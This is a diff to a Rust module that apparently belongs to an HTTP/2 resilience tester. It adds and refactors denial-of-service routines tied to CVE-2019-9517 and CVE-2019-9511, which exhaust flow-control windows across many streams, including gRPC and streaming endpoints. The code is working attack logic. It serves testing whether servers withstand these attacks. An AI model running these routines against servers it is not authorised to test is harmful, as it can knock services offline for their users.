@@ -1,7 +1,7 @@
 //! Clients that ask and do not read: what is held for them.
 
 use super::{Attack, FOR_A_TIMEOUT, Outcome, Target};
-use crate::frame::{flag, kind, push, setting};
+use crate::frame::{flag, frame, kind, push, setting, window_update};
 use crate::h1::H1;
 use crate::h2::H2;
 use crate::hpack;
@@ -11,6 +11,8 @@ use std::io;
 pub(super) const ATTACKS: &[Attack] = &[
     Attack { name: "window exhaustion: windows of zero", source: "CVE-2019-9517", run: zero_windows },
     Attack { name: "window exhaustion: one byte for each stream", source: "CVE-2019-9511", run: tiny_windows },
+    Attack { name: "window exhaustion: streams without end", source: "CVE-2019-9517", run: endless },
+    Attack { name: "window exhaustion: native streams without end", source: "CVE-2019-9517", run: native },
     Attack { name: "answers unread on h1", source: "CVE-2019-9517", run: unread_on_h1 },
     Attack { name: "answers unread on h2", source: "CVE-2019-9517", run: unread_on_h2 },
 ];
@@ -28,12 +30,28 @@ fn tiny_windows(target: &Target) -> io::Result<Outcome> {
     windows(target, 1)
 }
 
-/// All streams that there may be, each with an answer that has nowhere to go.
 fn windows(target: &Target, size: u32) -> io::Result<Outcome> {
-    let mut connection = H2::open(target.address, &[(setting::INITIAL_WINDOW_SIZE, size)])?;
-    let block = hpack::request("GET", &target.large, &[]);
+    all_streams(target, size, &hpack::request("GET", &target.large, &[]), b"")
+}
+
+fn endless(target: &Target) -> io::Result<Outcome> {
+    all_streams(target, 0, &hpack::request("GET", &target.endless, &[("accept", "application/x-ndjson")]), b"")
+}
+
+fn native(target: &Target) -> io::Result<Outcome> {
+    let headers = [("content-type", "application/grpc"), ("te", "trailers")];
+    all_streams(target, 0, &hpack::request("POST", &target.native, &headers), &[0; 5])
+}
+
+/// All streams that there may be, each with an answer that has nowhere to go.
+fn all_streams(target: &Target, window: u32, block: &[u8], body: &[u8]) -> io::Result<Outcome> {
+    let mut connection = H2::open(target.address, &[(setting::INITIAL_WINDOW_SIZE, window)])?;
     for index in 0..STREAMS {
-        connection.request(2 * index + 1, &block, true);
+        let stream = 2 * index + 1;
+        connection.request(stream, block, body.is_empty());
+        if !body.is_empty() {
+            connection.send(&frame(kind::DATA, flag::END_STREAM, stream, body));
+        }
     }
     let all = STREAMS as usize;
     connection.wait(FOR_A_TIMEOUT, |seen| seen.goaway.is_some() || seen.resets.len() == all);
@@ -59,7 +77,7 @@ fn unread_on_h1(target: &Target) -> io::Result<Outcome> {
 /// the socket is full.
 fn unread_on_h2(target: &Target) -> io::Result<Outcome> {
     let mut connection = H2::open(target.address, &[(setting::INITIAL_WINDOW_SIZE, 0x7fff_ffff)])?;
-    connection.send(&crate::frame::window_update(0, 0x7fff_0000));
+    connection.send(&window_update(0, 0x7fff_0000));
     let block = hpack::request("GET", &target.large, &[]);
     let mut stream = 1;
     for _ in 0..REQUESTS / 100 {
@@ -72,7 +90,7 @@ fn unread_on_h2(target: &Target) -> io::Result<Outcome> {
             break;
         }
     }
-    until_gone(|| connection.send(&crate::frame::window_update(0, 1)));
+    until_gone(|| connection.send(&window_update(0, 1)));
     Ok(Outcome::of_h2(connection, FOR_A_TIMEOUT))
 }
 
